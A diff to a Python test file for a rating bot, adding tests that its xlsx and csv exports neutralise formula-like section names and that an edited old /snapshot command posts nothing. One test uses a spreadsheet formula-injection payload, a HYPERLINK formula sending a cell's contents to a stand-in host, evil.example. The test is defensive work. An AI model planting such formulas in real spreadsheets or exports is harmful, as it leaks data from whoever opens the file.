@@ -3,6 +3,7 @@ snapshots posted to the group (on schedule, by /snapshot, to a group that migrat
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 from pathlib import Path
@@ -222,6 +223,25 @@ async def test_export_sends_a_workbook_whose_numbers_match_the_ranking(bot: Bot)
     assert staff.last_text() == "You can't use /export. Send /help to see the commands you can use."
 
 
+async def test_export_writes_names_that_look_like_formulas_as_text(bot: Bot) -> None:
+    campaign = await Campaign(bot).build()
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"办公室")'
+    trap = await make_section(bot.db, formula)
+    for voter in campaign.voters[:3]:
+        await rate(bot.db, voter, trap, 4)
+    leader = campaign.user(campaign.leader)
+
+    sent = await leader.send("/export")
+
+    files = {m.document_name: m.document or b"" for m in sent.messages if m.document is not None}
+    sheet = openpyxl.load_workbook(io.BytesIO(files["shuangyou-scores.xlsx"]))["Sections"]
+    (cell,) = [row[1] for row in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(row[1].value)][:1]
+    assert cell.value == formula and cell.data_type == "s"
+    rows = list(csv.reader(io.StringIO(files["shuangyou-scores.csv"].decode("utf-8-sig"))))
+    assert any(row[2] == "'" + formula for row in rows)
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+
+
 async def test_scheduled_snapshots_post_a_table_and_a_chart_once(bot: Bot) -> None:
     campaign = await Campaign(bot).build()
     group = await campaign.group()
@@ -281,6 +301,21 @@ async def test_an_admin_posts_a_snapshot_to_a_group_that_migrated(bot: Bot) -> N
     staff = campaign.user(campaign.staff)
     await staff.send("/snapshot")
     assert staff.last_text() == "You can't use /snapshot. Send /help to see the commands you can use."
+
+
+async def test_an_edited_old_snapshot_command_posts_nothing_again(bot: Bot) -> None:
+    campaign = await Campaign(bot).build()
+    admin = campaign.user(campaign.admin)
+    group = await campaign.group()
+    await admin.send("/snapshot")
+    posted = len(group.bot_messages())
+
+    edited = await admin.edit_last("/snapshot now")
+
+    assert edited.messages == [] and edited.edited == []
+    assert len(group.bot_messages()) == posted
+    async with bot.db.transaction() as session:
+        assert len((await session.exec(select(Snapshot))).all()) == 1
 
 
 async def test_no_period_kind_mixup_in_section_choices(bot: Bot) -> None:
